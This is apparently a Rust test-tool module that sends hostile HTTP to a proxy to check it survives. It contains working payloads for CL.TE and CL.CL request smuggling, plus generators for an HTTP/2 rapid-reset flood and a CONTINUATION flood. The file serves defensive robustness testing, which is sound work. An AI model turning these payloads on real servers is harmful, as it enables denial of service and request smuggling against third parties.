//! `pod-app attack`: hostile HTTP sent byte by byte, for the tests that check a proxy
//! survives it (HOSTILE.md: request smuggling, HTTP/2 rapid reset and CONTINUATION floods).
//!
//! Each attack writes its bytes while reading whatever comes back, until the peer closes the
//! connection, everything is sent and the peer has been quiet for a moment, or the deadline
//! passes. It reports what came back: the HTTP/1.1 status lines, or the HTTP/2 frames by
//! type and the GOAWAY error code, and whether the peer closed. Reading is bounded.
//!
//! `raw` sends the bytes of `--request` as given (a request a well-behaved client library
//! would never write: two `Host` headers, an absolute-form target naming another host, an
//! authority-form target, a malformed chunked body) and reports each HTTP/1.1 response with
//! its status and body (JSON when it parses), so a test sees what the backend echoed.

use std::{
    net::SocketAddr,
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use serde_json::{Value, json};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

/// The attacks.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Kind {
    /// `Content-Length` and `Transfer-Encoding: chunked` on one request, with a second
    /// request hidden in the body.
    ClTe,
    /// Two different `Content-Length` headers.
    ClCl,
    /// HTTP/2: open and immediately reset many streams.
    RapidReset,
    /// HTTP/2: one HEADERS frame without END_HEADERS, then CONTINUATION frames without end.
    Continuation,
    /// HTTP/1.1: the bytes of `--request`, verbatim.
    Raw,
}

/// The most bytes kept from the peer's answer.
const MAX_READ: usize = 1 << 20;
/// Streams opened and reset by `rapid-reset`.
const RAPID_RESET_STREAMS: u32 = 20_000;
/// Bytes of CONTINUATION frames `continuation` sends at most.
const CONTINUATION_BYTES: usize = 32 << 20;
/// After everything is sent, how long a quiet peer is waited for.
const QUIET: Duration = Duration::from_secs(2);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len();
    let mut out = Vec::with_capacity(9 + len);
    out.extend_from_slice(&[(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags]);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// An HPACK block for `GET / http` with authority `x`: indexed `:method GET`, `:scheme
/// http`, `:path /`, then `:authority` as a literal with an indexed name.
const REQUEST_BLOCK: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'x'];

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// The bytes of an attack, in the chunks they are written in.
fn payload(kind: Kind, request: &[u8]) -> Vec<Vec<u8>> {
    match kind {
        Kind::Raw => vec![request.to_vec()],
        Kind::ClTe => vec![
            b"POST /smuggle HTTP/1.1\r\nHost: x\r\nContent-Length: 45\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
                .to_vec(),
        ],
        Kind::ClCl => vec![
            b"POST /smuggle HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: 33\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
                .to_vec(),
        ],
        Kind::RapidReset => {
            let mut chunks = vec![[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()];
            let mut chunk = Vec::new();
            for i in 0..RAPID_RESET_STREAMS {
                let stream = 2 * i + 1;
                chunk.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST_BLOCK));
                chunk.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
                if chunk.len() > 64 * 1024 {
                    chunks.push(std::mem::take(&mut chunk));
                }
            }
            chunks.push(chunk);
            chunks
        }
        Kind::Continuation => {
            let mut chunks = vec![
                [
                    PREFACE,
                    &frame(SETTINGS, 0, 0, &[]),
                    &frame(HEADERS, END_STREAM, 1, REQUEST_BLOCK),
                ]
                .concat(),
            ];
            // Literal headers without indexing, new names: `x-NNNN: aaaa...`, 16 KiB a frame.
            let mut sent = 0;
            let mut n = 0u32;
            while sent < CONTINUATION_BYTES {
                let mut block = Vec::with_capacity(16 * 1024);
                while block.len() < 16 * 1024 - 200 {
                    let name = format!("x-{n:08}");
                    block.push(0x00);
                    block.push(name.len() as u8);
                    block.extend_from_slice(name.as_bytes());
                    block.push(100);
                    block.extend_from_slice(&[b'a'; 100]);
                    n += 1;
                }
                sent += block.len();
                chunks.push(frame(CONTINUATION, 0, 1, &block));
            }
            chunks
        }
    }
}

pub async fn attack(
    to: SocketAddr,
    kind: Kind,
    request: Option<String>,
    timeout: Duration,
) -> Result<(Value, bool)> {
    let request = match (kind, request) {
        (Kind::Raw, Some(r)) => r.into_bytes(),
        (Kind::Raw, None) => anyhow::bail!("--kind raw needs --request"),
        (_, Some(_)) => anyhow::bail!("--request is only for --kind raw"),
        (_, None) => Vec::new(),
    };
    let started = Instant::now();
    let deadline = started + timeout;
    let stream = TcpStream::connect(to)
        .await
        .with_context(|| format!("connecting to {to}"))?;
    let (mut reader, mut writer) = stream.into_split();
    let chunks = payload(kind, &request);
    let total: usize = chunks.iter().map(Vec::len).sum();
    let write = async move {
        let mut written = 0usize;
        for chunk in chunks {
            if writer.write_all(&chunk).await.is_err() {
                break;
            }
            written += chunk.len();
        }
        // The write half is handed back, not dropped: a FIN now would let a server that
        // does not wait on half-closed connections close before it answers.
        (written, writer)
    };
    let read = async move {
        let mut received = Vec::new();
        let mut buf = vec![0u8; 64 * 1024];
        let closed = loop {
            match reader.read(&mut buf).await {
                Ok(0) | Err(_) => break true,
                Ok(n) => {
                    let room = MAX_READ.saturating_sub(received.len());
                    received.extend_from_slice(&buf[..n.min(room)]);
                }
            }
        };
        (received, closed)
    };
    tokio::pin!(read);
    let (written, outcome) = tokio::select! {
        (written, _writer) = write => {
            // Everything sent: wait for the peer to answer and close, or to fall quiet.
            let quiet = QUIET.min(deadline.saturating_duration_since(Instant::now()));
            (written, tokio::time::timeout(quiet, &mut read).await.ok())
        }
        outcome = &mut read => (0, Some(outcome)),
        () = tokio::time::sleep_until(deadline.into()) => (0, None),
    };
    let (received, closed) = outcome.unwrap_or_default();
    let mut report = json!({
        "kind": format!("{kind:?}"),
        "sent_bytes": written,
        "payload_bytes": total,
        "received_bytes": received.len(),
        "closed": closed,
        "elapsed_ms": started.elapsed().as_millis() as u64,
    });
    match kind {
        Kind::ClTe | Kind::ClCl => {
            let text = String::from_utf8_lossy(&received);
            let statuses: Vec<&str> = text.lines().filter(|l| l.starts_with("HTTP/1.")).collect();
            report["statuses"] = json!(statuses);
        }
        Kind::Raw => {
            report["responses"] = json!(responses(&received));
        }
        Kind::RapidReset | Kind::Continuation => {
            let (frames, goaway) = frames(&received);
            report["frames"] = frames;
            report["goaway_error"] = json!(goaway);
        }
    }
    Ok((report, true))
}

/// The HTTP/1.1 responses in the peer's bytes: `{"status", "body"}` each, the body framed by
/// `content-length` or chunked coding (else it runs to the end) and parsed as JSON when it
/// is JSON. Stops at the first thing that does not parse.
fn responses(bytes: &[u8]) -> Vec<Value> {
    let mut out = Vec::new();
    let mut rest = bytes;
    while let Some(end) = find(rest, b"\r\n\r\n") {
        let head = String::from_utf8_lossy(&rest[..end]);
        let mut lines = head.split("\r\n");
        let Some(status) = lines
            .next()
            .and_then(|l| l.split(' ').nth(1))
            .and_then(|c| c.parse::<u16>().ok())
        else {
            break;
        };
        let mut length = None;
        let mut chunked = false;
        for line in lines {
            let Some((name, value)) = line.split_once(':') else {
                continue;
            };
            let (name, value) = (name.trim().to_ascii_lowercase(), value.trim());
            if name == "content-length" {
                length = value.parse::<usize>().ok();
            } else if name == "transfer-encoding" && value.eq_ignore_ascii_case("chunked") {
                chunked = true;
            }
        }
        let after = &rest[end + 4..];
        let (body, next) = if chunked {
            dechunk(after)
        } else {
            let n = length.unwrap_or(after.len()).min(after.len());
            (after[..n].to_vec(), &after[n..])
        };
        let body = serde_json::from_slice::<Value>(&body)
            .unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&body).into_owned()));
        out.push(json!({"status": status, "body": body}));
        rest = next;
    }
    out
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// A chunked body and what follows it; a truncated one is returned as far as it goes.
fn dechunk(mut bytes: &[u8]) -> (Vec<u8>, &[u8]) {
    let mut body = Vec::new();
    while let Some(line_end) = find(bytes, b"\r\n") {
        let size = std::str::from_utf8(&bytes[..line_end])
            .ok()
            .and_then(|l| usize::from_str_radix(l.split(';').next().unwrap_or("").trim(), 16).ok());
        let Some(size) = size else {
            break;
        };
        let data = &bytes[line_end + 2..];
        if size == 0 {
            // The last chunk, then (no trailers here) one empty line.
            let rest = data.strip_prefix(b"\r\n").unwrap_or(data);
            return (body, rest);
        }
        let Some(chunk) = data.get(..size) else {
            body.extend_from_slice(data);
            return (body, &[]);
        };
        body.extend_from_slice(chunk);
        bytes = data.get(size + 2..).unwrap_or(&[]);
    }
    (body, bytes)
}

/// Frame counts by type name, and the error code of the first GOAWAY, from the peer's bytes.
fn frames(bytes: &[u8]) -> (Value, Option<u32>) {
    let mut counts = serde_json::Map::new();
    let mut goaway = None;
    let mut at = 0;
    while let Some(head) = bytes.get(at..at + 9) {
        let len = (usize::from(head[0]) << 16) | (usize::from(head[1]) << 8) | usize::from(head[2]);
        let kind = head[3];
        let Some(body) = bytes.get(at + 9..at + 9 + len) else {
            break;
        };
        let name = match kind {
            0x0 => "DATA",
            HEADERS => "HEADERS",
            RST_STREAM => "RST_STREAM",
            SETTINGS => "SETTINGS",
            0x6 => "PING",
            GOAWAY => "GOAWAY",
            0x8 => "WINDOW_UPDATE",
            _ => "OTHER",
        };
        if kind == GOAWAY
            && goaway.is_none()
            && let Some(code) = body.get(4..8)
        {
            goaway = Some(u32::from_be_bytes([code[0], code[1], code[2], code[3]]));
        }
        let count = counts.entry(name).or_insert(json!(0));
        *count = json!(count.as_u64().unwrap_or(0) + 1);
        at += 9 + len;
    }
    (Value::Object(counts), goaway)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_counted_and_the_goaway_code_read() {
        let mut bytes = frame(SETTINGS, 0, 0, &[]);
        bytes.extend(frame(GOAWAY, 0, 0, &[0, 0, 0, 0, 0, 0, 0, 0xb]));
        bytes.extend([0, 0, 9]); // a truncated frame is ignored
        let (counts, goaway) = frames(&bytes);
        assert_eq!(counts, json!({"SETTINGS": 1, "GOAWAY": 1}));
        assert_eq!(goaway, Some(0xb));
    }

    #[test]
    fn raw_responses_are_read_with_their_bodies() {
        let bytes = b"HTTP/1.1 200 OK\r\ncontent-length: 10\r\n\r\n{\"a\":\"b\"}\nHTTP/1.1 400 Bad Request\r\ntransfer-encoding: chunked\r\n\r\n4\r\nBad \r\n8\r\nRequest\n\r\n0\r\n\r\n";
        assert_eq!(
            responses(bytes),
            vec![
                json!({"status": 200, "body": {"a": "b"}}),
                json!({"status": 400, "body": "Bad Request\n"}),
            ]
        );
    }

    #[test]
    fn the_smuggling_payloads_hide_a_second_request() {
        for kind in [Kind::ClTe, Kind::ClCl] {
            let text = String::from_utf8(payload(kind, b"").concat()).expect("ascii");
            assert_eq!(text.matches(" HTTP/1.1\r\n").count(), 2, "{kind:?}");
        }
    }
}
